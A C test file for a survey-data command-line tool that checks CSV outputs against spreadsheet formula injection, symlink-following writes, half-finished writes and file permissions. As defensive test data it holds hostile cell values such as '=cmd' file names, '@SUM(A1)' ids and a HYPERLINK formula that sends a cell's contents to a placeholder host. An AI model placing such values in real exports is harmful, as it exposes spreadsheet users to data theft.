/* test-outputs.c — nothing the command writes can hurt its reader (issue 11).
 *
 * Runs the built binary on a small store whose register names, respondent ids and source
 * file name are hostile spreadsheet formulas, and checks:
 *   - every CSV output (export, stats, targets, waves, institutions, plan; to standard
 *     output and to --out) holds no cell that Excel would evaluate: every text cell that
 *     starts a formula comes with its ', and numbers (a negative change among them) are
 *     unaltered; --raw gives the text back as stored;
 *   - every writing command refuses a symbolic link as its destination, and a directory
 *     that is a link, with an exact message and exit 4, leaving the link's target as it was;
 *   - a write that fails half-way (a small `ulimit -f`) leaves the previous file intact,
 *     no temporary file behind, and exits 4;
 *   - an export is 0600 even over an earlier 0644 file.
 */
#include <glib.h>

#include "input/csvsource.h"
#include "render/csv-writer.h"
#include "testutil.h"

#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>

static char *dir; /* the working directory of every run */
static char *db;  /* the hostile store */

static char *
src(const char *rel)
{
  const char *root = g_getenv("OM_SOURCE_ROOT");
  return g_build_filename(root ? root : ".", rel, NULL);
}

static void
write_file(const char *name, const char *text)
{
  char *p = g_build_filename(dir, name, NULL);
  GError *e = NULL;
  g_assert_true(g_file_set_contents(p, text, -1, &e));
  g_assert_no_error(e);
  g_free(p);
}

static char *
read_file(const char *name)
{
  char *p = g_build_filename(dir, name, NULL);
  char *text = NULL;
  if (!g_file_get_contents(p, &text, NULL, NULL))
    text = NULL;
  g_free(p);
  return text;
}

static const char *const ids[] = { "=1+1", "-5", "@SUM(A1)", "+31", "\t=5+5" };
#define N_RESPONDENTS 80 /* the hostile ids, then R6 … R80: an export of some 150 KB */

/* One wave of N_RESPONDENTS parents of 10AA00 answering `answer` to every item. */
static void
write_wave(const char *name, int year, int answer)
{
  GString *s = g_string_new("respondent,instelling,jaar,a1,a2,a3,a4,a5,a_alg,b1,b2,b3,b4,b_alg,"
                            "c1,c2,c3,c4,c_alg,d1,d2,d3,d_alg,cijfer\n");
  for (guint i = 0; i < N_RESPONDENTS; i++) {
    if (i < G_N_ELEMENTS(ids))
      g_string_append_printf(s, "\"%s\",10AA00,%d", ids[i], year);
    else
      g_string_append_printf(s, "R%u,10AA00,%d", i + 1, year);
    for (int k = 0; k < 20; k++)
      g_string_append_printf(s, ",%d", (i < 20 && answer == 1) ? 5 : answer);
    g_string_append(s, ",8\n");
  }
  write_file(name, s->str);
  g_string_free(s, TRUE);
}

static void
build_store(void)
{
  write_file("register.csv", "instelling,naam,sector,gemeente,populatie\n"
                             "10AA00,\""
                             "=HYPERLINK(\"\"http://x.invalid/?\"\"&A1;\"\"Klik\"\")"
                             "\",po,@Testdorp,120\n"
                             "20BB00,-Testcollege,vo,@Testdorp,300\n");
  write_wave("=cmd 2014.csv", 2014, 5);
  write_wave("+cmd 2015.csv", 2015, 1);
  char *survey = src("surveys/ouders.ini");
  Run r = run(dir, "init", "--db", db, NULL); /* register and import never create a store */
  g_assert_cmpint(r.status, ==, 0);
  run_clear(&r);
  r = run(dir, "register", "--db", db, "register.csv", NULL);
  g_assert_cmpint(r.status, ==, 0);
  run_clear(&r);
  r = run(dir, "import", "-q", "--db", db, "--survey", survey, "=cmd 2014.csv", "+cmd 2015.csv",
          NULL);
  g_assert_cmpstr(r.err, ==, "");
  g_assert_cmpint(r.status, ==, 0);
  run_clear(&r);
  g_free(survey);
}

typedef struct {
  guint fields;
  guint neutralised; /* text cells carrying the ' */
  guint negative;    /* negative numbers, unaltered */
  GString *bad;
} Scan;

static gboolean
is_number(const char *s)
{
  const char *p = s + (*s == '-');
  if (!g_ascii_isdigit(*p))
    return FALSE;
  p += strspn(p, "0123456789");
  if (*p == ',' || *p == '.') {
    p++;
    if (!g_ascii_isdigit(*p))
      return FALSE;
    p += strspn(p, "0123456789");
  }
  return *p == '\0';
}

static gboolean
scan_row(const OmCsvRow *row, gpointer data, GError **error)
{
  (void)error;
  Scan *s = data;
  for (guint i = 0; i < row->n_fields; i++) {
    const char *f = row->fields[i];
    s->fields++;
    if (is_number(f)) {
      s->negative += f[0] == '-';
      continue;
    }
    if (f[0] == '\'' && om_csv_is_formula_like(f + 1))
      s->neutralised++;
    else if (om_csv_is_formula_like(f))
      g_string_append_printf(s->bad, "line %" G_GUINT64_FORMAT " field %u: '%s'\n", row->line,
                             i + 1, f);
  }
  return TRUE;
}

static Scan
scan_csv(const char *text)
{
  Scan s = { 0, 0, 0, g_string_new(NULL) };
  GError *e = NULL;
  g_assert_nonnull(text);
  g_assert_true(om_csv_read_data("out.csv", text, strlen(text), NULL, scan_row, &s, NULL, &e));
  g_assert_no_error(e);
  return s;
}

typedef struct {
  const char *argv[12];
  guint min_neutralised; /* the hostile cells this output must show */
  gboolean negative;     /* holds a negative number */
} Output;

static const Output outputs[] = {
  { { "export" }, 0, FALSE },
  { { "waves", "--format", "csv" }, 2, FALSE },
  { { "institutions", "--format", "csv" }, 4, FALSE },
  { { "stats", "--by", "instelling", "--min-n", "5", "--format", "csv" }, 2, TRUE },
  { { "stats", "--by", "sector", "--min-n", "5", "--format", "csv", "--lang", "en" }, 0, TRUE },
  { { "targets", "--min-n", "5", "--format", "csv" }, 1, FALSE },
  { { "plan", "--format", "csv" }, 2, FALSE },
};

static Run
run_output(const Output *o, const char *const *extra)
{
  GPtrArray *a = g_ptr_array_new();
  char *bin = binary();
  g_ptr_array_add(a, bin);
  for (guint i = 0; o->argv[i]; i++)
    g_ptr_array_add(a, (char *)o->argv[i]);
  g_ptr_array_add(a, "--db");
  g_ptr_array_add(a, db);
  if (strcmp(o->argv[0], "targets") == 0) {
    g_ptr_array_add(a, "--targets");
    g_ptr_array_add(a, "targets.ini");
  }
  for (guint i = 0; extra && extra[i]; i++)
    g_ptr_array_add(a, (char *)extra[i]);
  g_ptr_array_add(a, NULL);
  Run r = run_argv(dir, (char **)a->pdata);
  g_ptr_array_free(a, TRUE);
  g_free(bin);
  return r;
}

static void
test_hostile_cells(void)
{
  for (guint k = 0; k < G_N_ELEMENTS(outputs); k++) {
    const Output *o = &outputs[k];
    for (int to_file = 0; to_file < 2; to_file++) {
      const char *extra[] = { "--out", "out.csv", NULL };
      Run r = run_output(o, to_file ? extra : NULL);
      g_assert_cmpstr(r.err, ==, "");
      g_assert_cmpint(r.status, ==, 0);
      char *text = to_file ? read_file("out.csv") : g_strdup(r.out);
      Scan s = scan_csv(text);
      if (s.bad->len)
        g_test_fail_printf("%s: cells Excel would evaluate:\n%s", o->argv[0], s.bad->str);
      if (s.neutralised < o->min_neutralised)
        g_test_fail_printf("%s: %u neutralised cells; expected at least %u", o->argv[0],
                           s.neutralised, o->min_neutralised);
      if (o->negative && s.negative == 0)
        g_test_fail_printf("%s: no negative number in the output", o->argv[0]);
      g_string_free(s.bad, TRUE);
      g_free(text);
      run_clear(&r);
    }
  }
}

/* --raw: the text as stored (for R and pandas), numbers the same. */
static void
test_raw(void)
{
  const Output o = { { "institutions", "--format", "csv", "--raw" }, 0, FALSE };
  Run r = run_output(&o, NULL);
  g_assert_cmpint(r.status, ==, 0);
  g_assert_nonnull(strstr(r.out, "\""
                                 "=HYPERLINK(\"\"http"));
  g_assert_nonnull(strstr(r.out, ";@Testdorp;"));
  g_assert_null(strstr(r.out, "'="));
  run_clear(&r);
  r = run_output(&(Output){ { "institutions", "--format", "csv" }, 0, FALSE }, NULL);
  g_assert_nonnull(strstr(r.out, "\"'=HYPERLINK(\"\"http"));
  g_assert_nonnull(strstr(r.out, ";\"'@Testdorp\";"));
  run_clear(&r);
}

/* Every writing command, with --out naming a link to a file that must stay untouched. */
static const char *const writers[][8] = {
  { "export" },
  { "waves" },
  { "waves", "--format", "csv" },
  { "institutions", "--format", "json" },
  { "stats", "--min-n", "5" },
  { "targets", "--min-n", "5", "--targets", "targets.ini" },
  { "plan" },
  { "ci", "3", "10" },
  { "diff", "3", "10", "4", "10" },
  { "report", "--min-n", "5", "--targets", "targets.ini" },
};

static void
run_writer(guint k, const char *out, Run *r)
{
  GPtrArray *a = g_ptr_array_new();
  char *bin = binary();
  g_ptr_array_add(a, bin);
  for (guint i = 0; writers[k][i]; i++)
    g_ptr_array_add(a, (char *)writers[k][i]);
  if (strcmp(writers[k][0], "ci") != 0 && strcmp(writers[k][0], "diff") != 0) {
    g_ptr_array_add(a, "--db");
    g_ptr_array_add(a, db);
  }
  g_ptr_array_add(a, "--out");
  g_ptr_array_add(a, (char *)out);
  g_ptr_array_add(a, NULL);
  *r = run_argv(dir, (char **)a->pdata);
  g_ptr_array_free(a, TRUE);
  g_free(bin);
}

static void
test_symlinks(void)
{
  write_file("victim.txt", "the victim's own text\n");
  char *victim = g_build_filename(dir, "victim.txt", NULL);
  char *link = g_build_filename(dir, "link.csv", NULL);
  char *subdir = g_build_filename(dir, "real", NULL);
  char *dirlink = g_build_filename(dir, "dirlink", NULL);
  g_assert_cmpint(symlink(victim, link), ==, 0);
  g_assert_cmpint(g_mkdir(subdir, 0755), ==, 0);
  g_assert_cmpint(symlink(subdir, dirlink), ==, 0);
  for (guint k = 0; k < G_N_ELEMENTS(writers); k++) {
    Run r;
    run_writer(k, "link.csv", &r);
    g_assert_cmpstr(r.err, ==,
                    "oudermonitor: cannot write link.csv: it is a symbolic link, and oudermonitor "
                    "never writes through a link; remove the link or name another file\n");
    g_assert_cmpint(r.status, ==, 4);
    run_clear(&r);
    run_writer(k, "dirlink/x.csv", &r);
    g_assert_cmpstr(r.err, ==,
                    "oudermonitor: cannot write dirlink/x.csv: its directory dirlink is a "
                    "symbolic link; name the directory it points to, or a file in another "
                    "directory\n");
    g_assert_cmpint(r.status, ==, 4);
    run_clear(&r);
    run_writer(k, "real", &r);
    g_assert_cmpstr(r.err, ==, "oudermonitor: cannot write real: it is a directory; name a file\n");
    g_assert_cmpint(r.status, ==, 4);
    run_clear(&r);
    char *text = read_file("victim.txt");
    g_assert_cmpstr(text, ==, "the victim's own text\n");
    g_free(text);
    GStatBuf st;
    g_assert_cmpint(g_lstat(link, &st), ==, 0);
    g_assert_true(S_ISLNK(st.st_mode));
  }
  char *x = g_build_filename(subdir, "x.csv", NULL);
  g_assert_false(g_file_test(x, G_FILE_TEST_EXISTS));
  g_free(x);
  g_unlink(link);
  g_unlink(dirlink);
  g_rmdir(subdir);
  g_unlink(victim);
  g_free(victim);
  g_free(link);
  g_free(subdir);
  g_free(dirlink);
}

/* A link planted in the charts folder, under the name a chart will get: refused, and
 * what it points to is left as it was (chart files go through base/safe-file.h too). */
static void
test_chart_link(void)
{
  write_file("victim.txt", "the victim's own text\n");
  char *victim = g_build_filename(dir, "victim.txt", NULL);
  char *charts = g_build_filename(dir, "charts", NULL);
  char *link = g_build_filename(charts, "instelling-10AA00.png", NULL);
  g_assert_cmpint(g_mkdir(charts, 0755), ==, 0);
  g_assert_cmpint(symlink(victim, link), ==, 0);
  char *bin = binary();
  char *argv[]
      = { bin,           "chart", "--db",       db,        "--min-n", "5",      "--targets",
          "targets.ini", "--by",  "instelling", "--quiet", "--out",   "charts", NULL };
  Run r = run_argv(dir, argv);
  g_assert_cmpint(r.status, ==, 4);
  g_assert_nonnull(strstr(r.err, "instelling-10AA00.png: it is a symbolic link"));
  run_clear(&r);
  char *text = read_file("victim.txt");
  g_assert_cmpstr(text, ==, "the victim's own text\n");
  g_free(text);
  GStatBuf st;
  g_assert_cmpint(g_lstat(link, &st), ==, 0);
  g_assert_true(S_ISLNK(st.st_mode));
  g_unlink(link);
  om_test_rm_tree(charts);
  g_unlink(victim);
  g_free(bin);
  g_free(link);
  g_free(charts);
  g_free(victim);
}

static gboolean
dir_has_temporary(void)
{
  GDir *d = g_dir_open(dir, 0, NULL);
  const char *name;
  gboolean found = FALSE;
  while ((name = g_dir_read_name(d)))
    found |= g_str_has_suffix(name, ".tmp");
  g_dir_close(d);
  return found;
}

/* A full disk, simulated by a file size limit of 4 KiB in the child. */
static void
test_full_disk(void)
{
  /* 100 blocks (50 KiB in dash, 100 KiB in bash) leave room for SQLite's 32 KiB
   * shared-memory file, not for the export. */
  static const char *const cmds[][4] = { { "export" }, { "export", "--raw" } };
  for (guint k = 0; k < G_N_ELEMENTS(cmds); k++) {
    write_file("previous.csv", "the previous file\n");
    char *p = g_build_filename(dir, "previous.csv", NULL);
    g_assert_cmpint(g_chmod(p, 0644), ==, 0);
    GPtrArray *a = g_ptr_array_new();
    g_ptr_array_add(a, "/bin/sh");
    g_ptr_array_add(a, "-c");
    g_ptr_array_add(a, "ulimit -f 100 && exec \"$0\" \"$@\"");
    char *bin = binary();
    g_ptr_array_add(a, bin);
    for (guint i = 0; cmds[k][i]; i++)
      g_ptr_array_add(a, (char *)cmds[k][i]);
    const char *tail[] = { "--db", db, "--out", "previous.csv", NULL };
    for (guint i = 0; tail[i]; i++)
      g_ptr_array_add(a, (char *)tail[i]);
    g_ptr_array_add(a, NULL);
    Run r = run_argv(dir, (char **)a->pdata);
    g_assert_cmpstr(r.err, ==,
                    "oudermonitor: cannot write previous.csv: File too large; the previous file "
                    "is unchanged\n");
    g_assert_cmpint(r.status, ==, 4);
    run_clear(&r);
    char *text = read_file("previous.csv");
    g_assert_cmpstr(text, ==, "the previous file\n");
    g_free(text);
    g_assert_false(dir_has_temporary());
    g_ptr_array_free(a, TRUE);
    g_free(bin);
    g_free(p);
  }
}

/* init on a full disk leaves no store behind: a 0-byte file would pass for an empty store. */
static void
test_init_full_disk(void)
{
  char *bin = binary();
  char *argv[] = { "/bin/sh", "-c", "ulimit -f 2 && exec \"$0\" \"$@\"", bin, "init", "--db",
                   "new.db",  NULL };
  Run r = run_argv(dir, argv);
  g_assert_cmpint(r.status, ==, 3);
  g_assert_true(g_str_has_prefix(r.err, "oudermonitor: new.db: "));
  run_clear(&r);
  char *p = g_build_filename(dir, "new.db", NULL);
  g_assert_false(g_file_test(p, G_FILE_TEST_EXISTS));
  g_free(p);
  g_free(bin);
}

/* An export over an earlier 0644 file is 0600: the mode of what was there does not leak. */
static void
test_private_export(void)
{
  write_file("answers.csv", "old\n");
  char *p = g_build_filename(dir, "answers.csv", NULL);
  g_assert_cmpint(g_chmod(p, 0644), ==, 0);
  Run r = run(dir, "export", "--db", db, "--out", "answers.csv", NULL);
  g_assert_cmpstr(r.err, ==, "");
  g_assert_cmpint(r.status, ==, 0);
  run_clear(&r);
  GStatBuf st;
  g_assert_cmpint(g_stat(p, &st), ==, 0);
  g_assert_cmpint(st.st_mode & 0777, ==, 0600);
  g_free(p);
}

int
main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_test_set_nonfatal_assertions();
  GError *e = NULL;
  dir = g_dir_make_tmp("om-test-outputs-XXXXXX", &e);
  g_assert_no_error(e);
  db = g_build_filename(dir, "store.db", NULL);
  write_file("targets.ini",
             "[target:relatie-2016]\nindicator = relatie\ngroup = ouders\n"
             "threshold = 0.90\ndeadline = 2016\nscopes = gemeente;sector;instelling\n"
             "text = =HYPERLINK(\"http://x.invalid\")\n");
  build_store();
  g_test_add_func("/outputs/hostile-cells", test_hostile_cells);
  g_test_add_func("/outputs/raw", test_raw);
  g_test_add_func("/outputs/chart-link", test_chart_link);
  g_test_add_func("/outputs/symlinks", test_symlinks);
  g_test_add_func("/outputs/full-disk", test_full_disk);
  g_test_add_func("/outputs/private-export", test_private_export);
  g_test_add_func("/outputs/init-full-disk", test_init_full_disk);
  int rc = g_test_run();
  char *cmd = g_strdup_printf("rm -rf '%s'", dir);
  if (system(cmd) != 0)
    g_printerr("could not remove %s\n", dir);
  g_free(cmd);
  g_free(dir);
  g_free(db);
  return rc;
}
